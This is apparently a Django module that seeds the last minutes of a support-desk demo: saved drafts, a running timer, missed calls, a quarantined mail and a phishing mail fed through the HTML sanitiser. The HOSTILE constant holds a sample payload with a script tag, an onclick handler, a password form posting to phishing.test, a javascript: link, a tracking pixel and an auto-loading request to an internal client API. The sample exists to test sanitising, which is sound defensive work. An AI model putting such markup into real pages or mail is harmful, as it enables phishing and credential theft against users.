"""The last minutes before the visitor comes: drafts, a running timer, a mail that could not be read, a hostile one."""

from datetime import datetime, timedelta

from django.conf import settings
from django.db import connection
from django.db.models import F

from support_desk.demo.complaining import complain
from support_desk.demo.learning import learn
from support_desk.demo.leave import plan_absences
from support_desk.demo.letters import Letter, keep_raw
from support_desk.demo.load import fill_board
from support_desk.demo.pay_months import pay_months
from support_desk.demo.paying import plans_of
from support_desk.demo.play import play
from support_desk.demo.reporting import report_last_month
from support_desk.demo.reviewing import review_replies
from support_desk.demo.rosters import submit_next
from support_desk.demo.rules import lay_down_rules
from support_desk.demo.selling import sell
from support_desk.demo.stage import MAIL, Stage
from support_desk.demo.timekeeping import keep_time
from support_desk.demo.whereabouts import go_to_meeting
from support_desk.shared.models import Notice, OutboxItem
from support_desk.shared.viewer import Viewer
from tickets.actions.calls import log_missed_call
from tickets.actions.drafts import save_draft
from tickets.actions.locks import lock_ticket
from tickets.actions.logging_time import start_timer
from tickets.actions.messages import add_message
from tickets.actions.opening import open_ticket
from tickets.actions.sla.sweep import sweep
from tickets.domain.mail.sanitise import clean_html
from tickets.models import Channel, ContactPhone, Draft, Message, RawMail, ReadMark, Ticket
from workload.actions.presence_edges import tell_presence_edges

UNKNOWN_NUMBER = "+7 000 5550142"
HOSTILE = """<div onclick="steal()" style="position:fixed;inset:0;background:red">
<script>document.title = "taken over"</script>
<form action="https://phishing.test/login" method="post">Your mailbox is full, log in: <input name="password"></form>
<p>You have <b>won</b>! <a href="javascript:alert(1)">Open</a> or <a href="https://phishing.test/">read more</a>.</p>
<img src="https://phishing.test/pixel.gif?who=you" hx-get="/api/v1/clients/" hx-trigger="load">
<iframe src="https://phishing.test/"></iframe></div>"""


def finish(stage: Stage, *, at: datetime) -> None:
    remember_what_was_read(stage)
    go_to_meeting(stage.staff, today=at)
    plan_absences(stage.staff, stage.content, zone=stage.whereabouts.zone, today=at)
    submit_next(stage.staff, zone=stage.whereabouts.zone, today=at, words=stage.content.words["rosters"])
    tell_presence_edges(at=at)
    sweep(at=at)
    miss_calls(stage, at=at)
    leave_drafts(stage, at=at)
    run_timer(stage, at=at)
    receive_hostile_mail(stage, at=at - timedelta(minutes=50))
    quarantine_one(stage, at=at - timedelta(hours=2))
    complain(stage, at=at)
    count_rows_for_the_planner()
    fill_board(stage, at=at)
    report_last_month(stage, at=at)
    learn(stage, at=at)
    lay_down_rules(stage.staff, stage.content, at=at)
    plans_of(stage.staff, stage.content, at=at)
    sell(stage, at=at)
    play(stage, at=at)
    review_replies(stage, at=at)
    keep_time(stage, at=at)
    pay_months(stage, at=at)
    settle_past_mail()
    forget_old_news(before=at - timedelta(hours=20))


def count_rows_for_the_planner() -> None:
    """All rows are of this transaction: whoever counted before us has counted none, and PostgreSQL would plan the
    reports' statements as if the tables were empty."""
    with connection.cursor() as cursor:
        cursor.execute(
            "ANALYZE tickets_timeentry, tickets_ticket, tickets_contract, tickets_project, tickets_clientreport, "
            "tickets_reportline, tickets_task, tickets_estimate, tickets_approval, workload_operation"
        )


def remember_what_was_read(stage: Stage) -> None:
    """What `mark_read` would have written each time somebody looked, for all of them at once."""
    people = stage.staff.people
    ReadMark.objects.bulk_create(
        ReadMark(ticket_id=pk, user_id=people[login].user_id, read_at=at) for (pk, login), at in stage.reads.items()
    )


def leave_drafts(stage: Stage, *, at: datetime) -> None:
    """Two managers were called away while writing."""
    for number, login in enumerate(("manager", "manager2")):
        viewer = stage.staff.viewer(login, at)
        ticket = Ticket.objects.visible_to(viewer).unanswered().order_by("waiting_since").first()
        if ticket is not None:
            first = (ticket.requester_name or "").split(" ")[0]
            body = stage.content.words["drafts"][number].format(contact_first=first)
            save_draft(ticket=ticket, kind=Draft.Kind.REPLY, body=body, by=viewer, at=at, version=0)


def run_timer(stage: Stage, *, at: datetime) -> None:
    viewer = stage.staff.viewer("manager", at)
    ticket = Ticket.objects.visible_to(viewer).live().order_by("-last_message_at").first()
    if ticket is not None:
        start_timer(ticket=ticket, by=viewer, at=at - timedelta(minutes=25))


def receive_hostile_mail(stage: Stage, *, at: datetime) -> None:
    """Nothing in it acts: the desk shows what the sanitiser leaves."""
    system = Viewer.system(at, MAIL)
    text = "Your mailbox is full, log in. You have won! Open or read more."
    letter = Letter(
        "Prize Centre", "prize@phishing.test", "You have won", text, stage.next_mail_id("phishing.test"), html=HOSTILE
    )
    ticket = open_ticket(
        subject=letter.subject,
        by=system,
        at=at,
        channel=Channel.EMAIL,
        requester_name=letter.sender,
        requester_address=letter.address,
        department=stage.staff.departments["support"],
    )
    add_message(
        ticket=lock_ticket(ticket, by=system),
        direction=Message.Direction.INBOUND,
        channel=Channel.EMAIL,
        by=system,
        at=at,
        author_name=letter.sender,
        author_address=letter.address,
        body_text=text,
        body_html=clean_html(HOSTILE).html,
        raw_mail=keep_raw(letter, mailbox=stage.mailbox, at=at, outcome="lead"),
        mail_id=letter.mail_id,
    )


def quarantine_one(stage: Stage, *, at: datetime) -> None:
    """Parts in parts in parts: kept as it came, for the operator to decide."""
    letter = Letter("Scanner", "scanner@post.test", "Scan 0001", "", stage.next_mail_id("post.test"))
    keep_raw(
        letter,
        mailbox=stage.mailbox,
        at=at,
        outcome="quarantined",
        state=RawMail.State.QUARANTINED,
        reason="nested_too_deeply",
        detail="The parts of the mail are nested too deeply.",
        attempts=1,
    )


def miss_calls(stage: Stage, *, at: datetime) -> None:
    """One of a known contact, one of a number that nobody knows."""
    department = stage.staff.departments["support"]
    known = ContactPhone.objects.order_by("contact_id").values_list("number", flat=True).first() or UNKNOWN_NUMBER
    for number, minutes in ((known, 48), (UNKNOWN_NUMBER, 14)):
        log_missed_call(
            number=number,
            called_at=at - timedelta(minutes=minutes),
            department=department,
            by=Viewer.system(at),
            at=at,
        )


def forget_old_news(*, before: datetime) -> None:
    """What people were told of earlier days they have read."""
    Notice.objects.filter(deliver_at__lt=before).update(read_at=F("deliver_at"))


def settle_past_mail() -> None:
    """The demo's past was sent in the past: nothing of it leaves now."""
    pending = OutboxItem.objects.filter(state=OutboxItem.State.PENDING)
    pending.update(state=OutboxItem.State.SENT, attempts=1, sent_at=F("available_at"))
    assert settings.DEMO
